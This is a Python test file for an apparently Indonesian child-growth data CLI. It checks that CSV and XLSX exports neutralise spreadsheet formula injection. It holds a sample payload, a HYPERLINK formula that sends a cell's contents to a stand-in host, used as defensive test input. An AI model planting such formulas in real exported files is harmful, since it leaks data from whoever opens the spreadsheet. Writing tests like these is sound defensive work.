"""No output runs as a formula (issue 10, finding 6): every CSV the product writes neutralises
text that starts with = + - @ tab or CR, and every XLSX stores such text as text — checked on
the real files the CLI writes (import report, missed list, anthro, write_table)."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from sinergi.cli import app
from sinergi.core.spreadsheet import FORMULA_START, neutralise
from sinergi.reports import write_table
from tests.helpers import KELUARGA_HEADER, clean_family, write_csv

runner = CliRunner()
ATTACK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _runs(cell: str) -> bool:
    """Would a spreadsheet read this CSV cell as a formula?"""
    return cell.startswith(FORMULA_START) and not cell.lstrip("+-").replace(".", "").isdigit()


@given(st.text(min_size=1))
def test_neutralise_keeps_the_text_and_never_starts_a_formula(text: str) -> None:
    out = neutralise(text)
    assert out == text or out == "'" + text
    assert not _runs(out) or out == text  # unchanged only when it is a plain number


def test_plain_numbers_and_other_values_are_left_alone() -> None:
    assert neutralise("-12") == "-12" and neutralise("+6281234") == "+6281234"
    assert neutralise("+1+1") == "'+1+1" and neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("\tx") == "'\tx" and neutralise(5) == 5 and neutralise(None) is None


def test_import_report_csv_neutralises_the_rejected_value(sqlite_url: str, tmp_path: Path) -> None:
    rows = clean_family()
    rows[1][4] = ATTACK  # a birth date no one can read: the value comes back in the report
    path = write_csv(tmp_path / "keluarga.csv", KELUARGA_HEADER, rows)
    report = tmp_path / "laporan.csv"
    res = runner.invoke(
        app, ["import", "keluarga", str(path), "--db", sqlite_url, "--report", str(report)]
    )
    assert res.exit_code == 0, res.output
    cells = _cells(report)
    assert "'" + ATTACK in cells
    assert not any(_runs(c) for c in cells)


def test_missed_list_csv_neutralises_a_childs_name(sqlite_url: str, tmp_path: Path) -> None:
    roster = write_csv(tmp_path / "keluarga.csv", KELUARGA_HEADER, clean_family())
    reports = ["--laporan", str(tmp_path / "laporan")]
    assert (
        runner.invoke(
            app, ["import", "keluarga", str(roster), "--db", sqlite_url, *reports]
        ).exit_code
        == 0
    )
    header = [
        "NIK",
        "Nama",
        "JK",
        "Tgl Lahir",
        "Nama Ortu",
        "Kode Desa",
        "Tanggal Pengukuran",
        "Berat",
        "Tinggi",
        "Cara Ukur",
    ]
    # A severely stunted child whose family is not in the roster: on the missed list.
    kids = write_csv(
        tmp_path / "eppgbm.csv",
        header,
        [
            [
                "6408015506230001",
                "+1+1",
                "P",
                "15/06/2023",
                "-Ibu",
                "64.08.01.2001",
                "01/08/2026",
                "9.0",
                "78.0",
                "Berdiri",
            ]
        ],
    )
    assert (
        runner.invoke(app, ["import", "eppgbm", str(kids), "--db", sqlite_url, *reports]).exit_code
        == 0
    )
    assert runner.invoke(app, ["assess", "--date", "2026-08-31", "--db", sqlite_url]).exit_code == 0
    out = tmp_path / "terlewat.csv"
    res = runner.invoke(app, ["missed", "--out", str(out), "--db", sqlite_url])
    assert res.exit_code == 0, res.output
    cells = _cells(out)
    assert "'+1+1" in cells and "+1+1" not in cells
    assert not any(_runs(c) for c in cells)


def test_anthro_outputs_are_safe(tmp_path: Path) -> None:
    src = tmp_path / "anak.csv"
    src.write_text(
        "nama,jk,tgl_lahir,tgl_ukur,berat,tinggi,cara_ukur\n"
        f'"{ATTACK.replace(chr(34), chr(34) * 2)}",L,01/01/2024,01/07/2026,11.0,84.0,'
        "berdiri\n",
        encoding="utf-8",
    )
    out_csv, out_xlsx = tmp_path / "hasil.csv", tmp_path / "hasil.xlsx"
    assert runner.invoke(app, ["anthro", str(src), "-o", str(out_csv)]).exit_code == 0
    assert "'" + ATTACK in _cells(out_csv)
    assert runner.invoke(app, ["anthro", str(src), "-o", str(out_xlsx)]).exit_code == 0
    assert "<f>" not in _sheet_xml(out_xlsx)


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_write_table_csv_and_xlsx(tmp_path: Path) -> None:
    frame = pd.DataFrame({"nama": ["+1+1", "Siti", ATTACK], "nilai": [-5, 3, 1]})
    write_table(tmp_path / "t.csv", frame)
    cells = _cells(tmp_path / "t.csv")
    assert cells[2:] == ["'+1+1", "-5", "Siti", "3", "'" + ATTACK, "1"]
    write_table(tmp_path / "t.xlsx", frame, about={"about_program": ATTACK})
    assert "<f>" not in _sheet_xml(tmp_path / "t.xlsx")
    # The about sheet's keys are message codes, never text from the data.
    with pytest.raises(ValueError, match="message codes"):
        write_table(tmp_path / "u.xlsx", frame, about={"=cmd": ATTACK})
